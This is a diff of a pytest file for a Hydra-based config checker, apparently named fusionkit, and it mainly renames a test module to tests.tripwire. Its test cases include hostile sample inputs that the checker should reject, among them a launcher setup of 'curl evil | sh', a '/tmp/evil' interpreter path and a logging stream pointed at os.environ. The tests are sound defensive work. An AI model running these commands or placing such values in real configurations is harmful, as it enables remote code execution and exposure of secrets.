@@ -151,14 +151,14 @@ def test_all_mistakes_are_reported_together(folder: Callable[[dict[str, str]], P
         ("+hydra.job.env_set.X=y", "hydra.job.env_set.X"),
         ("hydra.job.env_copy=[X]", "hydra.job.env_copy[0]"),
         ("hydra.overrides.hydra=[x]", "hydra.overrides.hydra[0]"),
-        ("hydra.launcher._target_=tripwire.Fire", "hydra.launcher._target_"),
+        ("hydra.launcher._target_=tests.tripwire.Fire", "hydra.launcher._target_"),
         ("+hydra.launcher._args_=[1]", "hydra.launcher._args_[0]"),
-        ("++hydra={launcher:{_target_:tripwire.Fire}}", "hydra.launcher._target_"),
+        ("++hydra={launcher:{_target_:tests.tripwire.Fire}}", "hydra.launcher._target_"),
         ("hydra.launcher='${train}'", "hydra.launcher"),
-        ("+hydra.callbacks.x._target_=tripwire.Fire", "hydra.callbacks.x._target_"),
+        ("+hydra.callbacks.x._target_=tests.tripwire.Fire", "hydra.callbacks.x._target_"),
         ("+hydra.callbacks.x='${train}'", "hydra.callbacks.x"),
-        ("+hydra.run.x._target_=tripwire.Fire", "hydra.run.x._target_"),
-        ("+hydra.job_logging.handlers.x.class=tripwire.Fire", "hydra.job_logging.handlers.x.class"),
+        ("+hydra.run.x._target_=tests.tripwire.Fire", "hydra.run.x._target_"),
+        ("+hydra.job_logging.handlers.x.class=tests.tripwire.Fire", "hydra.job_logging.handlers.x.class"),
         ("+hydra.job_logging.handlers.x.class=logging.handlers.SocketHandler", "hydra.job_logging.handlers.x.class"),
         ("+hydra.job_logging.handlers.x.stream='ext://os.environ'", "hydra.job_logging.handlers.x.stream"),
         ("+hydra.job_logging.handlers.x.stream='cfg://root'", "hydra.job_logging.handlers.x.stream"),
@@ -175,15 +175,17 @@ def test_a_callback_has_to_be_allowed_from_python(
     folder: Callable[[dict[str, str]], Path], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(allowed, "_extra", {})
-    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, verbose: true}\n"})
+    untrusted = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, verbose: true}\n"})
     with pytest.raises(
         ConfigError, match=r"hydra\.callbacks\.x\._target_ should be allowed by fusionkit\.config\.allow"
     ):
         compose(untrusted, "hydra/callbacks=mine")
-    config.allow("tripwire.Fire")
+    config.allow("tests.tripwire.Fire")
     compose(untrusted, "hydra/callbacks=mine")
-    compose(None, "+hydra.callbacks.x._target_=tripwire.Fire")
-    nested = folder({"hydra/callbacks/mine.yaml": "x: {_target_: tripwire.Fire, y: {_target_: tripwire.fire}}\n"})
+    compose(None, "+hydra.callbacks.x._target_=tests.tripwire.Fire")
+    nested = folder(
+        {"hydra/callbacks/mine.yaml": "x: {_target_: tests.tripwire.Fire, y: {_target_: tests.tripwire.fire}}\n"}
+    )
     with pytest.raises(ConfigError, match=r"hydra\.callbacks\.x\.y\._target_ should be absent"):
         compose(nested, "hydra/callbacks=mine")
 
@@ -242,7 +244,7 @@ SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nma
 @pytest.mark.parametrize(
     ("group", "text", "key"),
     [
-        ("launcher", "_target_: tripwire.Fire\n", "_target_"),
+        ("launcher", "_target_: tests.tripwire.Fire\n", "_target_"),
         ("launcher", LAUNCHER + "setup: ['curl evil | sh']\n", "setup[0]"),
         ("launcher", LAUNCHER + "python: /tmp/evil\n", "python"),
         ("launcher", LAUNCHER + "_args_: [a]\n", "_args_[0]"),
@@ -259,11 +261,11 @@ SWEEPER = "_target_: hydra._internal.core_plugins.basic_sweeper.BasicSweeper\nma
         ("launcher", LAUNCHER + "partition: gpu\n", "partition"),
         ("launcher", LAUNCHER + "account: mine\n", "account"),
         ("launcher", LAUNCHER + "timeout_min: 3\n", "timeout_min"),
-        ("sweeper", SWEEPER + "custom_search_space: tripwire.fire\n", "custom_search_space"),
+        ("sweeper", SWEEPER + "custom_search_space: tests.tripwire.fire\n", "custom_search_space"),
         ("sweeper", SWEEPER + "storage: sqlite:////tmp/x\n", "storage"),
-        ("sweeper", SWEEPER + "sampler: {_target_: tripwire.Fire}\n", "sampler._target_"),
+        ("sweeper", SWEEPER + "sampler: {_target_: tests.tripwire.Fire}\n", "sampler._target_"),
         ("sweeper", SWEEPER + "sampler: {_target_: optuna.samplers._base.BaseSampler}\n", "sampler._target_"),
-        ("sweeper", SWEEPER + "x: {y: [{_target_: tripwire.Fire}]}\n", "x.y[0]._target_"),
+        ("sweeper", SWEEPER + "x: {y: [{_target_: tests.tripwire.Fire}]}\n", "x.y[0]._target_"),
     ],
 )
 def test_neither_names_anything_to_run(
@@ -293,7 +295,7 @@ def test_a_launcher_takes_numbers_and_some_texts(folder: Callable[[dict[str, str
 def test_what_is_allowed_here_is_not_allowed_in_workers(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(allowed, "_extra", {})
     composition._check_reach({}, "hydra_plugins.x.XLauncher", sweep=False)
-    config.allow("tripwire.Fire")
+    config.allow("tests.tripwire.Fire")
     composition._check_reach({}, BASIC_LAUNCHER, sweep=False)
     with pytest.raises(
         ConfigError, match=r"should be the basic launcher, because what fusionkit\.config\.allow permits"
